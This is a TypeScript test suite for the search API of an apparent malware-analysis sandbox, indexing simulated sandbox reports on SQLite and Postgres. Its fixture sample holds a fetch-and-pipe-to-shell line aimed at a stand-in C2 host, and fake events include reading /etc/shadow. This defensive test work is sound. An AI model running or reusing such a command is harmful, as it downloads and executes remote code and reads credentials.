import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import dnsPacket from 'dns-packet';
import { sql } from 'kysely';
import type { BehaviorEvent } from '../../src/report/events.js';
import { processTask } from '../../src/pipeline/process-task.js';
import { startSearchBackfill } from '../../src/search/backfill.js';
import { ethernetIpv4Pcap, tcpDatagram, udpDatagram, whole } from '../helpers/pcap-file.js';
import { startTestPostgres, type TestPostgres } from '../helpers/postgres.js';
import { startTestServer, type TestServer } from '../helpers/server.js';
import { taskRow } from '../helpers/tasks.js';

/**
 * Search over real reports on both databases: tasks are processed by the real pipeline from raw
 * results (an event log, a capture, a dropped file), which indexes their reports; searches go over
 * HTTP to GET /ui/api/search. Rereporting replaces a task's entries, deleting it removes them, and the
 * start-up backfill indexes reports the index does not hold.
 */

const digest = (algorithm: string, data: string | Buffer) => createHash(algorithm).update(data).digest('hex');

const SAMPLE = '#!/bin/sh\n# nestbox search test sample\ncurl -s http://c2.example.test/gate.php | sh\n';
const MACHINE = '10.13.0.2';

/** A DNS lookup of c2.example.test answered 203.0.113.7, then an HTTP request to it. */
function capture(): Buffer {
  const flow = { src: MACHINE, sport: 40000, dst: '10.13.0.1', dport: 53 };
  const questions: dnsPacket.Question[] = [{ type: 'A', name: 'c2.example.test' }];
  const query = dnsPacket.encode({ type: 'query', id: 7, questions });
  const reply = dnsPacket.encode({ type: 'response', id: 7, questions, answers: [{ type: 'A', name: 'c2.example.test', data: '203.0.113.7' }] });
  const http = 'GET /gate.php?id=1 HTTP/1.1\r\nHost: c2.example.test\r\nUser-Agent: curl/8\r\n\r\n';
  return ethernetIpv4Pcap([
    whole(udpDatagram(flow, query)),
    whole(udpDatagram({ src: flow.dst, sport: 53, dst: MACHINE, dport: 40000 }, reply)),
    whole(tcpDatagram({ src: MACHINE, sport: 40001, dst: '203.0.113.7', dport: 80, payload: http })),
  ]);
}

function events(command: string[], readsShadow: boolean): BehaviorEvent[] {
  const base = { pid: 50, ppid: 1, tid: 50, comm: 'sh' };
  return [
    { ...base, ts: 1000, kind: 'process.exec', path: '/bin/sh', argv: command, ret: 0 },
    ...(readsShadow ? [{ ...base, ts: 1001, kind: 'file.open', path: '/etc/shadow', flags: 0, mode: 0, ret: 3 } as const] : []),
  ];
}

interface Found {
  status: number;
  body: { results: Array<{ id: number; target: string; score: number; category: string; added_on: string; matches: Array<{ field: string; value: string; kind: string }> }>; total: number; tookMs: number; message?: string };
}

for (const kind of ['sqlite', 'postgres'] as const) {
  describe(`search on ${kind}`, () => {
    let pg: TestPostgres | undefined;
    let server: TestServer;
    let sampleId: number;
    const sha256 = digest('sha256', SAMPLE);

    const search = (params: Record<string, string>): Promise<Found> => server.json(`/ui/api/search?${new URLSearchParams(params)}`);
    const ids = (found: Found) => found.body.results.map((result) => result.id);

    /** A completed task with raw results as the engine leaves them; processing it writes and indexes its report. */
    async function analysedFile(command: string[], readsShadow = true): Promise<number> {
      const id = await server.ctx.stores.tasks.insert(
        taskRow({ target: join(server.home, 'upload', 'dropper.sh'), status: 'completed', sample_id: sampleId, completed_on: new Date().toISOString() }),
      );
      const paths = server.ctx.layout.analysis(id);
      paths.create();
      writeRawResults(id, command, readsShadow);
      await processTask(server.ctx, id);
      return id;
    }

    function writeRawResults(id: number, command: string[], readsShadow: boolean): void {
      const paths = server.ctx.layout.analysis(id);
      writeFileSync(join(paths.dir, 'logs', 'events.jsonl'), events(command, readsShadow).map((event) => JSON.stringify(event)).join('\n') + '\n');
      writeFileSync(paths.pcap, capture());
      writeFileSync(join(paths.files, '0123456789abcdef_stage2.bin'), 'stage two');
      writeFileSync(paths.filesJson, JSON.stringify({ path: 'files/0123456789abcdef_stage2.bin', filepath: '/tmp/.cache/stage2.bin', pids: [50] }) + '\n');
    }

    async function analysedUrl(url: string): Promise<number> {
      const id = await server.ctx.stores.tasks.insert(taskRow({ category: 'url', target: url, status: 'completed', completed_on: new Date().toISOString() }));
      server.ctx.layout.analysis(id).create();
      await processTask(server.ctx, id);
      return id;
    }

    async function statusOf(id: number): Promise<string | undefined> {
      return (await server.ctx.stores.tasks.get(id))?.status;
    }

    /** The task's rows in the index's tables. */
    async function entriesOf(id: number): Promise<number> {
      let count = 0;
      for (const table of ['search_tasks', 'search_entries', 'search_words'] as const) {
        const row = await server.db.selectFrom(table).select((eb) => eb.fn.countAll<number | string>().as('count')).where('task_id', '=', id).executeTakeFirstOrThrow();
        count += Number(row.count);
      }
      return count;
    }

    let dropper: number;
    let phish: number;
    let lookalike: number;

    before(async () => {
      if (kind === 'postgres') pg = startTestPostgres();
      server = await startTestServer(pg ? { database: { connection: pg.url } } : {});
      sampleId = await server.ctx.stores.samples.upsert({
        file_size: SAMPLE.length, file_type: 'POSIX shell script, ASCII text executable', md5: digest('md5', SAMPLE), crc32: '00000000',
        sha1: digest('sha1', SAMPLE), sha256, sha512: digest('sha512', SAMPLE), ssdeep: null,
      });
      writeFileSync(server.ctx.layout.binary(sha256), SAMPLE);
      dropper = await analysedFile(['/bin/sh', '/tmp/dropper.sh', '--beacon', 'c2.example.test']);
      phish = await analysedUrl('http://phish.example.test/login');
      lookalike = await analysedUrl('http://c2.example.test.evil.example/x');
      for (const id of [dropper, phish, lookalike]) assert.equal(await statusOf(id), 'reported');
    });

    after(async () => {
      await server?.close();
      pg?.stop();
    });

    it('finds an analysis by the whole sha256 of its sample, and by the start of its md5', async () => {
      const bySha = await search({ q: sha256.toUpperCase() });
      assert.equal(bySha.status, 200);
      assert.deepEqual(ids(bySha), [dropper]);
      const [result] = bySha.body.results;
      assert.deepEqual([result!.id, result!.target, result!.category], [dropper, 'dropper.sh', 'file'], 'the name, never a server path');
      assert.match(result!.added_on, /^\d{4}-\d\d-\d\dT/);
      assert.ok(result!.score > 0, 'reading /etc/shadow scores');
      assert.deepEqual(result!.matches, [{ field: 'sha256', value: sha256, kind: 'exact' }]);
      assert.equal(bySha.body.total, 1);
      assert.equal(typeof bySha.body.tookMs, 'number');

      const byMd5 = await search({ q: digest('md5', SAMPLE).slice(0, 10), field: 'md5' });
      assert.deepEqual(byMd5.body.results.map((found) => [found.id, found.matches]), [[dropper, [{ field: 'md5', value: digest('md5', SAMPLE), kind: 'prefix' }]]]);
    });

    it('finds what the sample did: domain, address, URL, dropped file, command line, signature and ATT&CK technique', async () => {
      const expectations: Array<[params: Record<string, string>, match: { field: string; value: string; kind: string }]> = [
        [{ q: '203.0.113.7', field: 'ip' }, { field: 'ip', value: '203.0.113.7', kind: 'exact' }],
        [{ q: 'http://c2.example.test/gate' }, { field: 'url', value: 'http://c2.example.test/gate.php?id=1', kind: 'prefix' }],
        [{ q: 'stage2.bin', field: 'filename' }, { field: 'filename', value: 'stage2.bin', kind: 'exact' }],
        [{ q: 'beacon', field: 'cmdline' }, { field: 'cmdline', value: '/bin/sh /tmp/dropper.sh --beacon c2.example.test', kind: 'words' }],
        [{ q: 'credential_shadow' }, { field: 'signature', value: 'credential_shadow', kind: 'exact' }],
        [{ q: 't1003', field: 'attack' }, { field: 'attack', value: 'T1003.008', kind: 'prefix' }],
      ];
      for (const [params, match] of expectations) {
        const found = await search(params);
        assert.deepEqual(ids(found), [dropper], JSON.stringify(params));
        assert.deepEqual(found.body.results[0]!.matches[0], match, JSON.stringify(params));
      }
    });

    it('ranks a whole-value match above a prefix match above word matches, and pages through them', async () => {
      const found = await search({ q: 'c2.example.test' });
      assert.deepEqual(ids(found), [dropper, lookalike]);
      assert.equal(found.body.total, 2);
      assert.deepEqual(found.body.results[0]!.matches.map((match) => [match.field, match.kind]).slice(0, 1), [['domain', 'exact']]);
      assert.ok(found.body.results[0]!.matches.some((match) => match.field === 'cmdline' && match.kind === 'words'), 'the command line names it too');
      assert.deepEqual(found.body.results[1]!.matches.slice(0, 1), [{ field: 'domain', value: 'c2.example.test.evil.example', kind: 'prefix' }]);
      assert.deepEqual(found.body.results[1]!.target, 'http://c2.example.test.evil.example/x');

      const words = await search({ q: 'example.test' });
      assert.deepEqual(new Set(ids(words)), new Set([dropper, phish, lookalike]), 'every domain under example.test, by its words');
      const second = await search({ q: 'c2.example.test', limit: '1', offset: '1' });
      assert.deepEqual([ids(second), second.body.total], [[lookalike], 2]);
      const beyond = await search({ q: 'c2.example.test', offset: '10' });
      assert.deepEqual([ids(beyond), beyond.body.total], [[], 2]);
    });

    it('keeps to the field asked for', async () => {
      assert.deepEqual(ids(await search({ q: 'credential_shadow', field: 'cmdline' })), []);
      assert.deepEqual(ids(await search({ q: 'phish', field: 'domain' })), [phish]);
      assert.deepEqual(ids(await search({ q: 'phish', field: 'ip' })), []);
      assert.deepEqual(ids(await search({ q: 'gate', field: 'url' })), [dropper], 'a word of the URL');
      assert.deepEqual(ids(await search({ q: 'gate', field: 'cmdline' })), [], 'no command line has it');
      assert.deepEqual(ids(await search({ q: 'beacon', field: 'domain' })), []);
    });

    it('answers 400 with a message to an empty, overlong or malformed query and to an unknown field', async () => {
      for (const params of [{}, { q: '  ' }, { q: 'x'.repeat(513) }, { q: 'x', field: 'colour' }, { q: 'x', limit: '0' }, { q: 'x', offset: '-1' }, { q: 'x', limit: 'ten' }]) {
        const { status, body } = await search(params as Record<string, string>);
        assert.equal(status, 400, JSON.stringify(params));
        assert.equal(typeof body.message, 'string');
      }
      const repeated: Found = await server.json('/ui/api/search?q=a&q=b');
      assert.equal(repeated.status, 400);
      assert.equal((await search({ q: 'x'.repeat(512) })).status, 200);
    });

    it('replaces an analysis\'s entries when it is rereported', async () => {
      const id = await analysedFile(['/bin/sh', '/tmp/dropper.sh', '--first-run'], true);
      assert.ok(ids(await search({ q: 'first-run' })).includes(id));
      const { status } = await server.json(`/tasks/rereport/${id}`);
      assert.equal(status, 200);
      writeRawResults(id, ['/bin/sh', '/tmp/dropper.sh', '--second-run'], false);
      await processTask(server.ctx, id);
      assert.equal(await statusOf(id), 'reported');
      assert.ok(!ids(await search({ q: 'first-run' })).includes(id), 'the old command line is gone');
      assert.ok(ids(await search({ q: 'second-run' })).includes(id));
      assert.ok(!ids(await search({ q: 'credential_shadow' })).includes(id), 'the signature that no longer matches is gone');
    });

    it('forgets a deleted analysis', async () => {
      const id = await analysedFile(['/bin/sh', '/tmp/dropper.sh', '--doomed'], true);
      assert.ok(await entriesOf(id) > 10);
      assert.equal((await server.json(`/tasks/delete/${id}`)).status, 200);
      assert.equal(await entriesOf(id), 0);
      assert.deepEqual(ids(await search({ q: 'doomed' })), [], 'not in the full-text index either');
      assert.ok(!ids(await search({ q: sha256 })).includes(id));
    });

    it('indexes, in the background, reported analyses the index does not hold', async () => {
      const id = await analysedFile(['/bin/sh', '/tmp/dropper.sh', '--from-before'], true);
      await server.db.deleteFrom('search_tasks').where('task_id', '=', id).execute();
      assert.deepEqual(ids(await search({ q: 'from-before' })), []);
      if (kind === 'sqlite') {
        const { rows } = await sql<{ n: number }>`SELECT count(*) AS n FROM search_words_fts WHERE search_words_fts MATCH 'before'`.execute(server.db);
        assert.equal(rows[0]!.n, 0, 'the full-text index lost the entries with their rows');
      }
      const tally = await startSearchBackfill(server.ctx).done;
      assert.deepEqual(tally, { indexed: 1, skipped: 0 });
      assert.deepEqual(ids(await search({ q: 'from-before' })), [id]);
      assert.deepEqual(await startSearchBackfill(server.ctx).done, { indexed: 0, skipped: 0 }, 'nothing left to do');
    });
  });
}

describe('search with an API token', () => {
  let server: TestServer;
  before(async () => {
    server = await startTestServer({ api: { token: 'search-secret' } });
  });
  after(() => server.close());

  it('goes through the same authentication as the API', async () => {
    assert.equal((await fetch(`${server.url}/ui/api/search?q=x`)).status, 401);
    assert.equal((await server.fetch('/ui/api/search?q=x')).status, 200);
  });
});
